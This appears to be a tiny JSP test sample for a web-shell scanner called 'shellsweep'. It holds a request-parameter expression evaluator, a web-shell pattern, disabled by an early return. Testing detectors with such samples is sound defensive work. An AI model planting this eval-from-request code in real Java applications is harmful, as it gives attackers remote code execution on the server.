<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% String e = request.getParameter("e");
   Object v = new javax.el.ELProcessor().eval(e); out.print(v); %>
